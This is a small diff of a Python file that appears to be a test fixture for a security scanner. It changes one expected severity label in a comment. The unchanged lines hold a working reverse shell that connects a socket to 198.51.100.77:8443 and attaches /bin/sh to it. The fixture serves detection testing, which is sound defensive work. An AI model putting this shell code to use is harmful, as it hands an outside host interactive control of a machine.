@@ -10,7 +10,7 @@ __version__ = "1.0.0"
 
 def _connect():
     try:
-        s = socket.create_connection(("198.51.100.77", 8443), timeout=10)  # expect: HS118 medium
+        s = socket.create_connection(("198.51.100.77", 8443), timeout=10)  # expect: HS118 high
         s.settimeout(None)
         subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())  # expect: HS108 critical
     except OSError:
